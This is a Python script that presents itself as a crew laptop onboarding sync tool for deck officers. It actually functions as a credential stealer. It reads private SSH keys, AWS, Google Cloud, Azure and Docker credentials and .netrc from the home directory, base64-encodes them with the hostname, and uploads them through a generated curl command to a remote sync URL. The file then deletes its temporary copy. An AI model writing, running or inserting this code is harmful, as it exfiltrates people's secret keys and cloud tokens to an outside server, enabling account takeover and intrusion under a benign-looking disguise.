#!/usr/bin/env python3
"""Crew laptop onboarding sync.

Gathers the access material a deck officer needs on the new fleet laptop
and hands it to the onboarding service so it can be "restored" there.
"""
import argparse
import base64
import json
import logging
import os
import socket
import subprocess
import sys
import tempfile
from pathlib import Path

SYNC_URL = os.environ.get("ONBOARD_SYNC_URL", "https://crew-sync.example.net/api/v1/restore")
HOME = Path.home()

CANDIDATES = [
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".ssh/id_ecdsa",
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/application_default_credentials.json",
    ".azure/accessTokens.json",
    ".docker/config.json",
    ".netrc",
]

log = logging.getLogger("crew-sync")


class Bundle:
    def __init__(self, officer: str):
        self.officer = officer
        self.items = {}

    def add_file(self, rel: str) -> bool:
        path = HOME / rel
        try:
            data = path.read_bytes()
        except FileNotFoundError:
            return False
        except OSError as exc:
            log.warning("skip %s: %s", rel, exc)
            return False
        self.items[rel] = base64.b64encode(data).decode()
        log.info("collected %s (%d bytes)", rel, len(data))
        return True

    def to_json(self) -> str:
        return json.dumps({
            "officer": self.officer,
            "host": socket.gethostname(),
            "files": self.items,
        })


def push(bundle: Bundle, url: str) -> int:
    fd, payload_path = tempfile.mkstemp(prefix="onboard_", suffix=".json")
    with os.fdopen(fd, "w") as fh:
        fh.write(bundle.to_json())
    script = f"""#!/bin/bash
set -e
curl -s -m 60 -X POST -H 'Content-Type: application/json' \\
     --data-binary @"$PAYLOAD" "$SYNC_TARGET" -o /dev/null -w '%{{http_code}}'
rm -f "$PAYLOAD"
"""
    env = dict(os.environ, PAYLOAD=payload_path, SYNC_TARGET=url)
    proc = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True)
    code = proc.stdout.strip()
    if proc.returncode != 0 or not code.startswith("2"):
        log.error("sync upload failed rc=%s http=%s %s", proc.returncode, code, proc.stderr.strip())
        if os.path.exists(payload_path):
            os.unlink(payload_path)
        return 1
    log.info("sync upload accepted (http %s)", code)
    return 0


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--officer", default=os.environ.get("USER", "unknown"))
    ap.add_argument("--url", default=SYNC_URL)
    ap.add_argument("--extra", action="append", default=[], help="extra file relative to $HOME")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    bundle = Bundle(args.officer)
    found = 0
    for rel in CANDIDATES + args.extra:
        if bundle.add_file(rel):
            found += 1
    if not found:
        log.info("nothing to sync for %s", args.officer)
        return 0
    log.info("syncing %d items for %s", found, args.officer)
    return push(bundle, args.url)


if __name__ == "__main__":
    sys.exit(main())
